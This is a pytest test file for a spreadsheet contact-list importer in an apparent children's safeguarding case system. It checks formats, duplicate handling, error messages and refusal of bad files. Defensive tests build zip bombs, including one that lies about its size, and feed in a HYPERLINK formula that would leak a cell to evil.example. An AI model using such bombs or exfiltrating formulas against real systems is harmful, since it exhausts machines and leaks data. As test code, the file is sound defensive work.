"""A list that an agency sends is contacts, all of it or nothing, however often it comes (1.1)."""

import json
import re
import time
import zipfile
from collections.abc import Callable
from io import BytesIO
from pathlib import Path

import pytest

from openmash.access.rows import acting_as
from openmash.contacts.models import Alert, Contact, Narrative
from openmash.front_door.lists.reading import columns
from openmash.ledger.models import Entry
from openmash.people.models import Person
from openmash.policy.vocabulary import Role
from tests.cli.running import Ran, openmash
from tests.factories import an_actor
from tests.front_door.spreadsheets import (
    HEADINGS,
    KOFI,
    ZOE,
    as_csv,
    as_ods,
    as_xlsx,
    packed,
    sheet,
)

SHEETS = Path(__file__).parent / "sheets"
LIST = as_csv(HEADINGS, KOFI, ZOE)

type Load = Callable[..., Ran]


@pytest.fixture
def load(
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
    tmp_path: Path,
    db: None,
) -> Load:
    """`load(bytes, "--sender", "police")`: how it ended and what it said."""

    def run(file: bytes, *words: str) -> Ran:
        path = tmp_path / "list"
        path.write_bytes(file)
        hub = ("--hub", "northamptonshire")
        return openmash(capsys, monkeypatch, "import", "contacts", str(path), *hub, *words)

    return run


def names() -> set[str]:
    """Who is on record now."""
    with acting_as(an_actor(Role.MASH_OFFICER)):
        return {person.name for person in Person.objects.all()}


def count() -> int:
    """How many contacts there are now."""
    with acting_as(an_actor(Role.MASH_OFFICER)):
        return Contact.objects.count()


@pytest.mark.parametrize(
    "file",
    [
        LIST,
        as_csv(HEADINGS, KOFI, ZOE, delimiter=";", encoding="utf-8-sig"),
        as_csv(HEADINGS, KOFI, ZOE, delimiter="\t", encoding="utf-16"),
        b"sep=;\r\n" + as_csv(HEADINGS, KOFI, ZOE, delimiter=";"),
        as_csv(["Police list, March"], [], HEADINGS, KOFI, [], ZOE),
        as_xlsx(HEADINGS, KOFI, ZOE),
        as_ods(HEADINGS, KOFI, ZOE),
        (SHEETS / "plain.xlsx").read_bytes(),
        (SHEETS / "plain.xls").read_bytes(),
    ],
    ids="csv semicolons-bom tabs-utf16 excel-sep title-above xlsx ods excel-dates xls".split(),
)
def test_whatever_it_is_written_with_each_row_is_a_contact(load: Load, file: bytes) -> None:
    ran = load(file, "--sender", "police", "--json")

    assert (ran.ended, ran.err) == (0, "")
    told = json.loads(ran.out)
    assert [(each["reference"], each["new"]) for each in told["loaded"]] == [
        ("A-1", True),
        ("A-2", True),
    ]
    assert told["errors"] == []
    assert names() == {"Kofi Mensah", "Zoë Ångström"}
    with acting_as(an_actor(Role.MASH_OFFICER)):
        contact = Contact.objects.get(reference=told["loaded"][0]["contact"])
        assert (contact.channel, contact.referrer_organisation, contact.referrer_reference) == (
            "spreadsheet",
            "Northamptonshire Police",
            "A-1",
        )
        assert str(Person.objects.get(given_names="Kofi").date_of_birth) == "2019-05-31"
        assert Entry.objects.get(kind="list_loaded").payload.count('"new":2') == 1


def test_loaded_again_it_makes_nothing_and_what_was_added_to_it_is_new(load: Load) -> None:
    load(LIST, "--sender", "police")

    again = load(LIST, "--sender", "police")
    longer = load(as_csv(HEADINGS, KOFI, ZOE, ["A-3", "New.", "Ada", "", ""]), "--sender", "police")

    assert "0 new, 2 that were there before" in again.out
    assert "1 new, 2 that were there before" in longer.out
    assert count() == 3


def test_two_senders_may_count_their_rows_alike(load: Load) -> None:
    load(LIST, "--sender", "police")
    load(LIST, "--sender", "nspcc", "--name", "NSPCC Helpline")

    assert count() == 4


def test_other_words_under_a_reference_that_was_there_are_refused_and_nothing_is_loaded(
    load: Load,
) -> None:
    load(LIST, "--sender", "police")

    changed = as_csv(HEADINGS, ["A-1", "Another child.", "", "", ""], ["A-9", "New.", "", "", ""])
    ran = load(changed, "--sender", "police")

    assert ran.ended == 2
    assert "row 2, reference: Something else was loaded before under this reference." in ran.out
    assert count() == 2


def test_every_column_that_is_described_goes_where_it_says(load: Load) -> None:
    said = {
        "reference": "A-1",
        "concerns": "He flinches.",
        "received_at": "02/03/2026 10:20",
        "kind": "Police notification",
        "parents_aware": "Not known",
        "safety_scale": "3",
        "urgent": "injury-with-disclosure; child-found-alone",
        "referrer_name": "PC Ellery",
        "consent_status": "Not sought",
        "consent_exception": "Increased risk of harm",
        "child_2_sex": "Female",
        "child_2_role": "sibling",
        "child_2_nhs_number": "999 123 4578",
        "child_2_address": "3 Loom Court",
        "child_2_postcode": "nn160tr",
        "child_2_safe_to_write": "No",
        "adult_1_relation": "mother",
        "adult_1_given_names": "Abena",
        "adult_1_parental_responsibility": "Yes",
    }

    ran = load(as_csv(list(said), list(said.values())))

    assert ran.ended == 0, ran
    with acting_as(an_actor(Role.MASH_OFFICER)):
        contact = Contact.objects.get()
        assert (contact.kind, contact.parents_aware) == ("police-notification", "unknown")
        assert contact.received_at.isoformat() == "2026-03-02T10:20:00+00:00"
        narrative = Narrative.objects.get()
        assert narrative.safety_scale == 3
        assert narrative.consent["status"] == "not-sought"
        assert narrative.consent["exception"] == "increased-risk-of-harm"
        assert Alert.objects.exists()
        child = Person.objects.get(is_child=True)
        assert (child.sex, child.nhs_number) == ("F", "999 123 4578")
        assert child.addresses.get().safe_to_write == "no"


def test_each_mistake_is_said_with_its_row_and_column_and_nothing_is_loaded(load: Load) -> None:
    headings = [*HEADINGS, "Urgent", "Child 2 NHS number"]
    file = as_csv(
        headings,
        [*KOFI, "", ""],
        ["A-2", "", "Zoë", "", "31/02/2026", "everything", "1234567890"],
        ["", "Left alone.", "", "", "", "", ""],
        ["A-1", "Left alone.", "", "", "yesterday", "", ""],
    )

    ran = load(file, "--json")

    assert ran.ended == 2
    assert "nothing was loaded" in ran.err
    assert len(ran.err.splitlines()) == 1
    found = {(each["row"], each["column"]) for each in json.loads(ran.out)["errors"]}
    assert found == {
        (3, "Concerns"),
        (3, "Child 1 date of birth"),
        (3, "Child 2 NHS number"),
        (4, "Reference"),
        (5, "Child 1 date of birth"),
        (5, "Reference"),
    }
    assert count() == 0


@pytest.mark.parametrize(
    ("file", "said"),
    [
        (b"", "is empty"),
        (b"\x00\x00\x00", "is empty"),
        (as_csv(HEADINGS), "has headings and no rows"),
        (b"%PDF-1.7 \x00\x01", "neither text nor a spreadsheet"),
        (as_csv(["Number", "Concerns"], ["1", "x"]), 'no column "reference"'),
        (as_csv(["Reference"], ["1"]), 'no column "concerns"'),
        (as_csv([*HEADINGS, "Shoe size"], [*KOFI, "4"]), 'not known: "Shoe size"'),
        (as_csv([*HEADINGS, "Child forename"], [*KOFI, "Kofi"]), 'two columns for "child_1_given'),
        (as_csv([*HEADINGS, ""], [*KOFI, "more"]), "column F, which has no heading"),
        (as_csv(HEADINGS, KOFI, ZOE, encoding="cp1252"), "not written in UTF-8 (line 3)"),
        (b'Reference,Concerns\r\nA-1,"never closed', "cannot be read as CSV"),
        (as_csv(HEADINGS, *[[f"A-{n}", "x"] for n in range(100_000)]), "more than 5,000 rows"),
        (as_xlsx(HEADINGS, *[[f"A-{n}", "x"] for n in range(100_000)]), "more than 5,000 rows"),
        (as_xlsx(HEADINGS, KOFI, sheets=2), "2 sheets (List 1, List 2)"),
        (
            as_xlsx(HEADINGS, ["A-1", '<c r="@"><f>B1&amp;"x"</f></c>']),
            "without a result, or an error, in cell B2",
        ),
        (
            as_xlsx(HEADINGS, ["A-1", "x", '<c r="@" t="e"><f>1/0</f><v>#DIV/0!</v></c>']),
            "in cell C2",
        ),
        (as_xlsx(HEADINGS, KOFI)[:-200], "damaged"),
        (b"PK\x03\x04 nothing at all", "damaged"),
        (b"\xd0\xcf\x11\xe0" + b"\x00" * 600, "cannot be read"),
        ((SHEETS / "locked.xlsx").read_bytes(), "protected by a password"),
    ],
    ids=range(20),
)
def test_what_is_no_list_is_said_in_one_line_and_nothing_is_loaded(
    load: Load, file: bytes, said: str
) -> None:
    ran = load(file)

    assert (ran.ended, ran.out) == (2, "")
    assert said in ran.err
    assert len(ran.err.splitlines()) == 1
    assert count() == 0


def _bomb() -> bytes:
    """Some kilobytes that unpack to gigabytes, and say so."""
    file = BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as to:
        to.writestr("[Content_Types].xml", b" " * 250 * 1024 * 1024)
    return file.getvalue()


def _bomb_that_lies() -> bytes:
    """The same behind a size of one byte."""
    file = bytearray(_bomb())
    with zipfile.ZipFile(BytesIO(file)) as archive:
        [entry] = archive.infolist()
    said = entry.file_size.to_bytes(4, "little")
    return bytes(file).replace(said, (1).to_bytes(4, "little"))


@pytest.mark.parametrize(
    "file",
    [
        _bomb(),
        _bomb_that_lies(),
        # Two cells, and between them more empty ones than there is memory for.
        packed(
            '<row r="1"><c r="A1"><v>1</v></c></row><row r="2"><c r="XFD1048576"><v>1</v></c></row>'
        ),
    ],
    ids=["a bomb", "a bomb that lies", "two cells far apart"],
)
def test_a_file_that_would_eat_the_machine_is_refused_in_a_moment(load: Load, file: bytes) -> None:
    began = time.monotonic()
    ran = load(file)

    assert (ran.ended, ran.out) == (2, "")
    assert len(ran.err.splitlines()) == 1
    assert time.monotonic() - began < 20
    assert len(file) < 400_000


def test_a_formula_is_words_and_is_never_reckoned(load: Load) -> None:
    evil = '=HYPERLINK("http://evil.example/?"&A1,"Click")'

    assert load(as_csv(HEADINGS, ["A-1", evil, "=1+1", "", ""])).ended == 0
    with acting_as(an_actor(Role.MASH_OFFICER)):
        assert Narrative.objects.get().concerns == evil
        assert Person.objects.get().given_names == "=1+1"


def test_what_a_formula_came_to_is_what_the_sender_saw(load: Load) -> None:
    reckoned = '<c r="@" t="str"><f>CONCATENATE("He ","flinches")</f><v>He flinches</v></c>'

    assert load(as_xlsx(HEADINGS, ["A-1", reckoned])).ended == 0
    with acting_as(an_actor(Role.MASH_OFFICER)):
        assert Narrative.objects.get().concerns == "He flinches"


def test_merged_headings_are_refused_where_a_column_has_lost_its_own(load: Load) -> None:
    merged = '<mergeCells count="1"><mergeCell ref="C1:D1"/></mergeCells>'
    rows = [["Reference", "Concerns", "Child 1 first names", ""], ["A-1", "x", "Kofi", "Mensah"]]

    ran = load(packed(sheet(*rows), merged=merged))

    assert ran.ended == 2
    assert "column D, which has no heading: give each column its own heading" in ran.err


def test_a_number_that_is_a_name_of_something_keeps_its_digits(load: Load) -> None:
    cells = ["<c r='@'><v>118</v></c>", "x", "Kofi", "", "", "<c r='@'><v>9991234578</v></c>"]

    assert load(as_xlsx([*HEADINGS, "Child 1 NHS number"], cells)).ended == 0
    with acting_as(an_actor(Role.MASH_OFFICER)):
        assert Person.objects.get().nhs_number == "9991234578"
        assert Contact.objects.get().referrer_reference == "118"


def test_a_file_that_is_not_there_or_a_hub_that_is_none_is_said_in_one_line(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, db: None
) -> None:
    words = ("import", "contacts", "/nowhere/list.csv", "--hub", "coventry")
    gone = openmash(capsys, monkeypatch, *words)
    nowhere = openmash(
        capsys, monkeypatch, "import", "contacts", str(SHEETS / "plain.xls"), "--hub", "nowhere"
    )

    assert (gone.ended, nowhere.ended) == (2, 2)
    assert "/nowhere/list.csv: No such file" in gone.err
    assert '"nowhere" is not a hub here' in nowhere.err


def test_the_columns_that_are_documented_are_the_ones_that_are_known() -> None:
    page = Path(__file__).parents[2] / "docs" / "howto" / "send-a-list-of-contacts.md"
    tables = [line.split("|")[1] for line in page.read_text("utf-8").splitlines() if "| `" in line]
    documented = {name for cell in tables for name in re.findall(r"`(\w+)`", cell)}
    numbered = {re.sub("_[0-9]+_", "_N_", name) for name in columns()}

    assert documented == numbered
    assert {"child_6_gp", "adult_4_gp"} <= set(columns())
    assert not {"child_7_gp", "adult_5_gp"} & set(columns())
